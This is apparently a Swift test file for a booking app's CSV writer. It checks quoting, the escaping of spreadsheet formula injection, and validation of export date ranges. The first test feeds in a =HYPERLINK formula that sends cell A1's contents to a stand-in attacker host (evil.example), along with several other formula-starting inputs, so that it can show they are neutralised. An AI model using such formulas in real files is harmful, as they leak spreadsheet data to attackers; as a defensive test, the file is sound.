import BookingCore
import Testing

/// The CSV writer: RFC 4180 quoting and spreadsheet formula injection.
struct CSVTests {
    @Test func hyperlinkFormulaInANameIsNeutralised() {
        var csv = CSVWriter(header: ["name", "email"])
        csv.append(["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "a@b.co"])
        #expect(csv.text == "name,email\r\n\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",a@b.co\r\n")
    }

    @Test(arguments: ["=1+1", "+1 212 555 0100", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
    func everyFormulaStartGetsALeadingQuoteAndQuotes(value: String) {
        #expect(CSVWriter.cell(value) == "\"'" + value + "\"")
    }

    @Test func plainNumbersStayNumbers() {
        #expect(CSVWriter.cell("-4000") == "-4000")
        #expect(CSVWriter.cell("-40.00") == "-40.00")
        #expect(CSVWriter.cell("-") == "\"'-\"")
        #expect(CSVWriter.cell("-1.") == "\"'-1.\"")
    }

    @Test func quotesCommasQuotesAndLineBreaks() {
        #expect(CSVWriter.cell("Quinn, Zelda") == "\"Quinn, Zelda\"")
        #expect(CSVWriter.cell("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSVWriter.cell("two\nlines") == "\"two\nlines\"")
        #expect(CSVWriter.cell("Zoë") == "Zoë")
        #expect(CSVWriter.cell("") == "")
    }
}

/// The date range of an export.
struct ExportRangeTests {
    @Test func coversWholeLocalDaysAcrossTheDSTChange() throws {
        let range = try ExportRange.parse(from: "2027-03-14", to: "2027-03-14")
        let clock = try #require(ZoneClock(identifier: "America/New_York"))
        let instants = range.instants(clock)
        #expect(instants.end - instants.start == 23 * 3600)
        #expect(range.label == "2027-03-14_2027-03-14")
    }

    @Test func refusesAnEndBeforeTheStartOrMoreThanAYear() {
        #expect(throws: ValidationError(field: "to", message: "Choose an end date on or after the start date.")) {
            try ExportRange.parse(from: "2026-11-30", to: "2026-11-01")
        }
        #expect(throws: ValidationError.self) { try ExportRange.parse(from: "2025-01-01", to: "2026-11-01") }
        #expect(throws: ValidationError.self) { try ExportRange.parse(from: "yesterday", to: "2026-11-01") }
        #expect((try? ExportRange.parse(from: "2026-01-01", to: "2026-12-31")) != nil)
    }
}
